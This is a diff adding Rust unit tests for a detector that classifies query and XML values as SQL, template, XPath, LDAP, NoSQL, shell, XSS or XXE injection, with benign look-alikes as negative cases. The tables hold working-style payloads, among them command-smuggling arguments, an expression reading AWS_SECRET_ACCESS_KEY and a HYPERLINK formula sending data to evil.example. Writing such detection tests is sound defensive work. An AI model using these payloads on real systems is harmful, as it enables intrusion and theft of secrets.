@@ -1,0 +1,103 @@
+//! Values that are code from end to end, and texts that only look like it.
+
+use super::{Budget, Detectors, Input, Place, Settings};
+
+fn class(place: Place<'static>, value: &str) -> String {
+    let detectors = Detectors::new(Settings::default());
+    let findings =
+        detectors.inspect(Input::new(place, b"q", value.as_bytes()), &mut Budget::default());
+    detectors.verdict(&findings).map_or_else(String::new, |finding| finding.class.to_string())
+}
+
+fn check(cases: &[(&str, &str)]) {
+    let wrong: Vec<String> = cases
+        .iter()
+        .filter(|(value, expected)| class(Place::QueryValue, value) != *expected)
+        .map(|(value, expected)| {
+            format!("`{value}`: `{}`, expected `{expected}`", class(Place::QueryValue, value))
+        })
+        .collect();
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+#[test]
+fn a_statement_alone_is_an_attack_and_one_written_down_is_not() {
+    check(&[
+        ("select * from users", "sqli"),
+        ("SELECT password FROM users WHERE id=1", "sqli"),
+        ("insert into t(a,b) values(1,'x')", "sqli"),
+        ("create user x identified by 'y'", "sqli"),
+        ("where 1=1 and 1=0#", "sqli"),
+        ("order by 1,sleep(5)", "sqli"),
+        ("id=1 or 1=1", "sqli"),
+        ("1 limit 1,1 procedure analyse(1)", "sqli"),
+        ("x'; prepare s from 0x73;--", "sqli"),
+        ("1',(begin if (1=1) then dbms_lock.sleep(5); end if; end;)--", "sqli"),
+        ("1+union+select+1,2,3", "sqli"),
+        ("SELECT name FROM cities WHERE id = 4;", ""),
+        ("select an option from the list", ""),
+        ("order by phone, or by mail", ""),
+        ("grant access to everyone", ""),
+        ("where to go in May", ""),
+        ("a=1 or b=2", ""),
+        ("+49 170 1234567 (mobile)", ""),
+    ]);
+}
+
+#[test]
+fn an_expression_alone_is_an_attack_and_a_field_to_be_filled_in_is_not() {
+    check(&[
+        ("{{printf \"%s\" \"x\"}}", "template"),
+        ("{{request.environ}}", "template"),
+        ("{{ [1,2,3] | join }}", "template"),
+        ("{%set x=7*7%}{{x}}", "template"),
+        ("{% include 'admin/base.html' %}", "template"),
+        ("<%= Rails.env %>", "template"),
+        ("#{session.setAttribute(\"x\",1)}", "template"),
+        ("{'id'|system}", "template"),
+        ("[[7*7]]", "template"),
+        ("@System.Diagnostics.Process.Start(\"cmd\")", "template"),
+        ("{{first_name}}", ""),
+        ("Dear {{ customer.name | capitalize }},", ""),
+        ("${name}", ""),
+        ("[[Main Page]]", ""),
+        ("{{1,2},{3,4}}", ""),
+        ("@anna.smith (she/her)", ""),
+        ("#hashtag", ""),
+    ]);
+}
+
+#[test]
+fn other_grammars_are_read_from_end_to_end_too() {
+    check(&[
+        ("//user[name/text()='x']", "xpath"),
+        ("count(/child::node())", "xpath"),
+        ("' and substring(/users/user[1]/password,1,1)='a", "xpath"),
+        ("(&(uid=*)(userPassword=*))", "ldap"),
+        ("|(cn=*)", "ldap"),
+        ("$where: '1 == 1'", "nosql"),
+        ("' } ], $comment:'x'", "nosql"),
+        ("-oProxyCommand=id", "shell"),
+        ("; powershell Start-Sleep -s 5", "shell"),
+        ("${env:AWS_SECRET_ACCESS_KEY}", "expression"),
+        ("=HYPERLINK(\"http://evil.example/?\"&A1, \"x\")", "template"),
+        ("(alert)(1)", "xss"),
+        ("a=alert,a(1)", "xss"),
+        ("\\74script\\76alert(1)\\74/script\\76", "xss"),
+        ("</title></textarea></script>", "xss"),
+        ("[a](data:text/html;base64,PHNjcmlwdD4=)", "xss"),
+        ("<input ng-focus=$event.path|orderBy:'x'>", "xss"),
+        ("//example.org/a[1].png", ""),
+        ("(see page 4) & (page 5)", ""),
+        ("| a | b |", ""),
+        ("; and then it rained", ""),
+        ("-o output.txt", ""),
+        ("type=alert; level=3", ""),
+        ("price in ${currency}", ""),
+    ]);
+    assert_eq!(
+        class(Place::XmlText, "<?xml-stylesheet href=\"http://evil.example/x.xsl\"?><r/>"),
+        "xxe"
+    );
+    assert_eq!(class(Place::XmlText, "<!DOCTYPE a [<!ENTITY x \"a\">]><a>&x;</a>"), "xxe");
+}
